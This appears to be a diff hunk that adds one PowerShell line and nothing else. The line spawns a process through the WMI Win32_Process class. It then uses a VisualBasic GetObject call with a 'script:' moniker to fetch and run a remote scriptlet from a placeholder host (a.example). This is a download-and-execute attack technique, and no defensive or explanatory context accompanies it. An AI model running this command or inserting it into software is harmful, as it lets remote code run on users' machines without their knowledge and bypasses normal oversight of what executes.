@@ -1,0 +1,1 @@
+$w=[Runtime.InteropServices.Marshal]::BindToMoniker('winmgmts:root\cimv2:Win32_Process'); $w.Create('calc /5'); Add-Type -AssemblyName Microsoft.VisualBasic; [Microsoft.VisualBasic.Interaction]::GetObject('script:http://a.example/x.sct')
